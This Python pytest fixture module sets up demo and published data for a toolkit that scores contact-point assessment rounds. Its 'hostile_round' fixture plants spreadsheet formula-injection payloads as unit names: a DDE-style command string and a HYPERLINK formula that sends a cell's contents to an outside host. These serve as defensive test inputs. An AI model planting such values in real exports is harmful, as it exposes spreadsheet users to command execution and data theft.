"""The demonstration round, and a round of units whose names would act on a spreadsheet."""

from dataclasses import replace
from pathlib import Path

import pytest

from tests.contact_points import copy_to
from tests.publishing.open_data import data_in_notice, publish_to
from toolkit.outcomes.laboratory import Laboratory
from toolkit.outcomes.results import Results, results_of
from toolkit.outcomes.rounds import RoundOutcome
from toolkit.scoring.rounds import score_rounds
from toolkit.submissions.repository import Repository
from toolkit.submissions.walk import open_repository

KEY = ("keqiao-contact-point", "2018")


#: A round with what comes of it, and what other readings would change.
Assessed = tuple[RoundOutcome, Laboratory]


def in_notice(repository: Repository) -> Repository:
    """The same with every round in public notice: what was verified is out."""
    rounds = {
        id: replace(filed, round=filed.round.model_copy(update={"state": "notice"}))
        for id, filed in repository.rounds.items()
    }
    return replace(repository, rounds=rounds)


def results_in(repository: Repository) -> Results:
    assert repository.problems == []
    return results_of(repository, score_rounds(repository))


def assessed_in(repository: Repository) -> Assessed:
    results = results_in(repository)
    return results.outcomes[KEY], results.laboratories[KEY]


@pytest.fixture(scope="session")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything published of the tiny organisation."""
    folder = tmp_path_factory.mktemp("open")
    return publish_to(folder / "site", data_in_notice(folder))


@pytest.fixture(scope="session")
def api(root: Path) -> Path:
    return root / "api/v1"


@pytest.fixture(scope="session")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    return open_repository(copy_to(tmp_path_factory.mktemp("demo") / "data"), "data")


@pytest.fixture(scope="session")
def demo_round(demo: Repository) -> Assessed:
    return assessed_in(demo)


@pytest.fixture(scope="session")
def hostile_round(tmp_path_factory: pytest.TempPathFactory) -> Assessed:
    """The same round, in which a unit that is no demonstration has dangerous names."""
    data = copy_to(tmp_path_factory.mktemp("hostile") / "data")
    (data / "units/keqiao-demo-food/unit.yml").write_text(
        "id: keqiao-demo-food\n"
        'name: {zh: "＝cmd|甲, \\"乙\\"", en: "=HYPERLINK(\\"http://x.org?\\"&A1,\\"go, on\\")"}\n'
        "kind: society\n",
        "utf-8",
    )
    return assessed_in(open_repository(data, "data"))
